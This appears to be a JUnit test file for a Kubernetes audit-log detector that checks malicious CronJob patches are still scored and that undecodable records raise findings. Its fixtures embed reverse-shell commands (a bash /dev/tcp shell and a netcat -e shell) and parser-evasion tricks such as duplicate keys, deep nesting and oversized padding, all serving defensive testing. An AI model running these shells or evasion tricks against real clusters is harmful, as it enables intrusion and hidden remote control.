package dev.cronsentinel.ingest;

import static dev.cronsentinel.ingest.AuditDecoderTest.CJ_REF;
import static dev.cronsentinel.ingest.AuditDecoderTest.event;
import static dev.cronsentinel.testing.TestData.decode;
import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.alert.UndecodableAlertFunction;
import dev.cronsentinel.config.DecoderConfig;
import dev.cronsentinel.model.Alert;
import dev.cronsentinel.model.AlertKind;
import dev.cronsentinel.model.DeadLetter;
import dev.cronsentinel.model.EventRole;
import dev.cronsentinel.model.RawAuditRecord;
import dev.cronsentinel.model.Severity;
import dev.cronsentinel.model.UndecodableEvent;
import dev.cronsentinel.model.WorkloadEvent;
import dev.cronsentinel.testing.TestData;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Arrays;
import org.junit.jupiter.api.Test;

/**
 * Issue 16, row 4: a CronJob patch carrying a payload plus one construct that the API server's Go decoder
 * accepts and a strict Jackson parse refuses is still scored; and a relevant write that cannot be decoded at
 * all (a create padded past 1 MiB, a wrong type) raises an undecodable finding besides its dead letter.
 */
class UndecodableFindingTest {
    /** A merge patch at level Request (no stored object) whose container runs a reverse shell. */
    private static String payloadPatch(String extraSpecField, String extraContainerField) {
        return "\"requestObject\":{\"metadata\":{\"labels\":{\"team\":\"ops\"}},\"spec\":{" + extraSpecField
                + "\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"w\"," + extraContainerField
                + "\"command\":[\"/bin/bash\",\"-c\",\"bash -i >& /dev/tcp/192.0.2.44/8443 0>&1\"]}]}}}}}}";
    }

    private static void assertScoredAlertable(TestData.Decoded d) {
        assertThat(d.deadLetters).as("dead letters").isEmpty();
        assertThat(d.events).hasSize(1);
        WorkloadEvent e = d.events.get(0);
        assertThat(TestData.defaultScorer().score(e, EventRole.WORKLOAD).alertable()).as("templates %s", e.templates()).isTrue();
    }

    @Test
    void aDuplicateKeyInAnUnknownFieldIsReadAsTheApiServerReadsIt() {
        assertScoredAlertable(decode(event("patch", CJ_REF, payloadPatch("\"x-note\":{\"k\":1,\"k\":\"two\"},", ""))));
        // Last one wins, as in Go: a duplicated known field takes its last value.
        TestData.Decoded d = decode(event("patch", CJ_REF, payloadPatch("",
                "\"image\":\"registry.internal/ok:1\",\"image\":\"kalilinux/kali-rolling\",")));
        assertThat(d.events.get(0).templates().get(0).containers().get(0).image()).isEqualTo("kalilinux/kali-rolling");
    }

    @Test
    void aSeventyDeepUnknownFieldIsSkippedNotFatal() {
        String deep = "\"x-deep\":" + "{\"d\":".repeat(70) + "1" + "}".repeat(70) + ",";
        assertScoredAlertable(decode(event("patch", CJ_REF, payloadPatch(deep, ""))));
        String deepArray = "\"x-deep\":" + "[".repeat(90) + "]".repeat(90) + ",";
        assertScoredAlertable(decode(event("patch", CJ_REF, payloadPatch("", deepArray))));
    }

    @Test
    void aHundredAndOneDigitNumberIsRead() {
        String big = "\"x-big\":" + "9".repeat(101) + ",";
        assertScoredAlertable(decode(event("patch", CJ_REF, payloadPatch(big, "\"x-ratio\":1." + "3".repeat(150) + ","))));
    }

    @Test
    void anUnparsableLastAppliedConfigurationIsIgnoredWithEvidence() {
        String patch = payloadPatch("", "").replace("\"labels\":{\"team\":\"ops\"}",
                "\"annotations\":{\"kubectl.kubernetes.io/last-applied-configuration\":\"{\\\"spec\\\": not json\"}");
        TestData.Decoded d = decode(event("patch", CJ_REF, patch));
        assertScoredAlertable(d);
        assertThat(d.undecodable).singleElement().satisfies(u -> {
            assertThat(u.reason()).isEqualTo("unparsable-last-applied-configuration");
            assertThat(u.username()).isEqualTo("alice");
            assertThat(u.name()).isEqualTo("cj");
            assertThat(u.auditId()).isEqualTo("id-1");
        });
    }

    @Test
    void aCreatePaddedPastOneMebibyteRaisesAnUndecodableFindingWithWhatTheScanKnows() {
        String padded = event("create", CJ_REF, "\"requestObject\":{\"kind\":\"CronJob\",\"metadata\":{\"name\":\"cj\",\"annotations\":{\"pad\":\""
                + "P".repeat((1 << 20) + 5) + "\"}},\"spec\":{\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":{\"containers\":"
                + "[{\"name\":\"w\",\"image\":\"alpine\",\"command\":[\"sh\",\"-c\",\"nc 192.0.2.1 4444 -e /bin/sh\"]}]}}}}}}");
        TestData.Decoded d = decode(padded);
        assertThat(d.deadLetters).extracting(DeadLetter::reason).containsExactly("oversized");
        assertThat(d.undecodable).singleElement().satisfies(u -> {
            assertThat(u.reason()).isEqualTo("oversized");
            assertThat(u.verb()).isEqualTo("create");
            assertThat(u.resource()).isEqualTo("cronjobs");
            assertThat(u.namespace()).isEqualTo("ns");
            assertThat(u.name()).isEqualTo("cj");
            assertThat(u.username()).isEqualTo("alice");
            assertThat(u.sourceIp()).isEqualTo("10.1.1.1");
            assertThat(u.responseCode()).isEqualTo(201);
            assertThat(u.eventTime()).isEqualTo(Instant.parse("2026-11-20T10:00:00.010Z").toEpochMilli());
        });

        // A source that kept only a prefix of a record past ingest.max-record-bytes: the envelope still tells.
        byte[] all = padded.getBytes(StandardCharsets.UTF_8);
        TestData.Decoded cut = new TestData.Decoded();
        new AuditDecoder(DecoderConfig.defaults()).decode(new RawAuditRecord("k-0", 7, Arrays.copyOf(all, 4096), 20L << 20), cut);
        assertThat(cut.deadLetters).extracting(DeadLetter::reason).containsExactly("oversized");
        assertThat(cut.undecodable).singleElement().satisfies(u -> {
            assertThat(u.origin()).isEqualTo("k-0");
            assertThat(u.position()).isEqualTo(7);
            assertThat(u.name()).isEqualTo("cj");
            assertThat(u.eventTime()).as("the timestamps are past the prefix").isEqualTo(-1);
        });
    }

    @Test
    void aWronglyTypedRelevantEventRaisesAFindingAndAnIrrelevantOneDoesNot() {
        String wrong = event("create", "{\"resource\":\"jobs\",\"namespace\":\"prod\",\"name\":\"j1\"}",
                "\"requestObject\":{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"a\",\"command\":\"bash -i\"}]}}}}");
        TestData.Decoded d = decode(wrong);
        assertThat(d.deadLetters).extracting(DeadLetter::reason).containsExactly("wrong-type");
        assertThat(d.undecodable).extracting(UndecodableEvent::reason, UndecodableEvent::name, UndecodableEvent::resource)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("wrong-type", "j1", "jobs"));

        // An escaped key leaves the pre-filter uncertain: the envelope scan decides.
        String escapedWrite = wrong.replace("\"verb\":", "\"v\\u0065rb\":");
        assertThat(decode(escapedWrite).undecodable).hasSize(1);
        String escapedRead = event("get", CJ_REF, "\"requestObject\":{\"spec\":1").replace("\"verb\":", "\"v\\u0065rb\":");
        TestData.Decoded irrelevant = decode(escapedRead);
        assertThat(irrelevant.deadLetters).hasSize(1);
        assertThat(irrelevant.undecodable).isEmpty();
    }

    /**
     * A GKE entry the decoder cannot place (no timestamp, as in Panther's hand-written GKE tests): the finding
     * names what Google's fields say, so an analyst sees who wrote which CronJob where.
     */
    @Test
    void anUndecodableGkeEntryNamesTheActorAndTheObjectFromGooglesFields() {
        String gke = "{\"protoPayload\":{\"@type\":\"type.googleapis.com/google.cloud.audit.AuditLog\","
                + "\"authenticationInfo\":{\"principalEmail\":\"mallory@example.com\"},"
                + "\"requestMetadata\":{\"callerIp\":\"203.0.113.9\",\"callerSuppliedUserAgent\":\"kubectl/v1.31\"},"
                + "\"methodName\":\"io.k8s.batch.v1.cronjobs.create\","
                + "\"resourceName\":\"batch/v1/namespaces/prod/cronjobs/backup\","
                + "\"request\":{\"kind\":\"CronJob\",\"spec\":{}}},\"insertId\":\"gke-1\"}";
        TestData.Decoded d = decode(gke);
        assertThat(d.deadLetters).extracting(DeadLetter::reason).containsExactly("missing-timestamp");
        assertThat(d.undecodable).singleElement().satisfies(u -> {
            assertThat(u.verb()).isEqualTo("create");
            assertThat(u.resource()).isEqualTo("cronjobs");
            assertThat(u.namespace()).isEqualTo("prod");
            assertThat(u.name()).isEqualTo("backup");
            assertThat(u.username()).isEqualTo("mallory@example.com");
            assertThat(u.sourceIp()).isEqualTo("203.0.113.9");
            assertThat(u.userAgent()).isEqualTo("kubectl/v1.31");
            assertThat(u.auditId()).isEqualTo("gke-1");
        });
    }

    @Test
    void theFindingBecomesAnUndecodableAlert() throws Exception {
        UndecodableEvent known = new UndecodableEvent("k-0", 3, "limit-exceeded", "String value length exceeds", "a-1", "patch",
                "cronjobs", "ns", "cj", "mallory", "192.0.2.9", "curl/8", 201, 1_000L);
        Alert a = new UndecodableAlertFunction("default", "v1").map(known);
        assertThat(a.kind()).isEqualTo(AlertKind.UNDECODABLE);
        assertThat(a.severity()).isEqualTo(Severity.MEDIUM);
        assertThat(a.username()).isEqualTo("mallory");
        assertThat(a.name()).isEqualTo("cj");
        assertThat(a.eventTime()).isEqualTo(1_000L);
        assertThat(a.signals()).singleElement().satisfies(s -> {
            assertThat(s.id()).isEqualTo("undecodable");
            assertThat(s.rule()).isEqualTo("limit-exceeded");
        });
        // Without a readable timestamp: 0, never the wall clock, so a replay writes the same document.
        UndecodableEvent timeless = new UndecodableEvent("k-0", 3, "oversized", "x", null, "create", "jobs", null, null, null,
                null, null, 0, -1);
        Alert b = new UndecodableAlertFunction("default", "v1").map(timeless);
        assertThat(b.eventTime()).isZero();
        assertThat(b).isEqualTo(new UndecodableAlertFunction("default", "v1").map(timeless));
        assertThat(b.alertId()).isNotEqualTo(a.alertId());
    }
}
